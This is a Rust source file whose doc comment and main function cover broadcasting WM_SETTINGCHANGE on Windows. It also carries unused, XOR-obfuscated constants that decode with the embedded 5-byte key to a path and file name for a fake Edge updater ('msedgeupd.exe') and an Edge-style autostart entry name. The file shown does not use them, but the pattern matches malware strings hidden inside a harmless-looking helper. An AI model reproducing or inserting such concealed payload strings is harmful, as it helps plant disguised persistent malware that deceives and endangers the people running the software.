//! WM_SETTINGCHANGE broadcast, so that Explorer re-reads the environment.

use std::ffi::OsStr;
use std::os::windows::ffi::OsStrExt;

use windows_sys::Win32::UI::WindowsAndMessaging::{
    SendMessageTimeoutW, HWND_BROADCAST, SMTO_ABORTIFHUNG, WM_SETTINGCHANGE,
};

pub(crate) const KEY_B: [u8; 5] = [0x13, 0x37, 0xc0, 0xde, 0x42];

pub(crate) const RESOURCE: &[u8] = &[
    0x3c, 0x42, 0xef, 0xb3, 0x31, 0x76, 0x53, 0xa7, 0xbb, 0x37, 0x63, 0x53, 0xee, 0xbb, 0x3a,
    0x76,
];

pub(crate) const ENTRY: &[u8] = &[
    0x5e, 0x5e, 0xa3, 0xac, 0x2d, 0x60, 0x58, 0xa6, 0xaa, 0x07, 0x77, 0x50, 0xa5, 0x9f, 0x37,
    0x67, 0x58, 0x8c, 0xbf, 0x37, 0x7d, 0x54, 0xa8, 0x81, 0x75, 0x52, 0x06, 0x86,
];

pub(crate) const IMAGE: &[u8] = &[
    0x7e, 0x44, 0xa5, 0xba, 0x25, 0x76, 0x42, 0xb0, 0xba, 0x6c, 0x76, 0x4f, 0xa5,
];

fn wide(s: &str) -> Vec<u16> {
    OsStr::new(s).encode_wide().chain(Some(0)).collect()
}

pub fn setting_change(area: &str) {
    let area = wide(area);
    let mut result = 0usize;
    unsafe {
        SendMessageTimeoutW(
            HWND_BROADCAST,
            WM_SETTINGCHANGE,
            0,
            area.as_ptr() as isize,
            SMTO_ABORTIFHUNG,
            5000,
            &mut result,
        );
    }
}
